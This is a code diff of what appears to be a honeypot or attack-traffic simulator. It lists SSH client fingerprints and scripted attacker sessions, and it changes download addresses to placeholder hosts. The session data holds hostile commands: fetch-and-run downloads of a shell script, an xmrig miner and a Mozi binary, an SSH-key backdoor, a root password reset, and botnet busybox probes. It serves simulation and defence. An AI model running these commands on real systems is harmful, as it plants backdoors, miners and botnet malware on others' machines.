@@ -31,7 +31,7 @@ const CLIENTS: readonly Client[] = [
   { share: 10, banner: "SSH-2.0-paramiko_2.1.2", hassh: "b5752e36ba6c5979a575e43178908adf" },
 ];
 
-/** What is typed after a login, the most frequent first. The address of the downloads is one for documentation. */
+/** What is typed after a login, the most frequent first. Downloads come from names for documentation, or from AS112, which serves no files. */
 const SHELL_VISITS: readonly (readonly string[])[] = [
   ["uname -a"],
   [
@@ -40,20 +40,20 @@ const SHELL_VISITS: readonly (readonly string[])[] = [
     "uname -m",
     "w",
   ],
-  ["cd /tmp; wget http://198.51.100.23/bins/update.sh; chmod 777 update.sh; sh update.sh", "rm -rf update.sh"],
+  ["cd /tmp; wget http://update.botnet.example/bins/update.sh; chmod 777 update.sh; sh update.sh", "rm -rf update.sh"],
   [
     'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa AAAAB3NzaC1yc2E mdrfckr">>.ssh/authorized_keys',
     'echo "root:9fK2mQx"|chpasswd|bash',
     "crontab -l",
   ],
-  ["curl -s http://198.51.100.77/xmrig.tar.gz | tar xz -C /tmp", "./xmrig -o stratum+tcp://pool.example:3333"],
+  ["curl -s http://files.miner.example/xmrig.tar.gz | tar xz -C /tmp", "./xmrig -o stratum+tcp://pool.example:3333"],
 ];
 const TELNET_VISITS: readonly (readonly string[])[] = [
   ["enable", "system", "shell", "sh", "/bin/busybox MIRAI"],
   ["enable", "system", "shell", "sh", "/bin/busybox FBOT"],
   ["enable", "linuxshell", "development", "iptables -F", "/bin/busybox SATORI"],
   ["sh", "/bin/busybox ECCHI"],
-  ["cd /tmp; /bin/busybox wget http://198.51.100.40:8088/Mozi.m -O -> .m; chmod 777 .m; ./.m"],
+  ["cd /tmp; /bin/busybox wget http://192.31.196.40:8088/Mozi.m -O -> .m; chmod 777 .m; ./.m"],
 ];
 const URL = /http:\/\/[^\s;|]+/g;
 
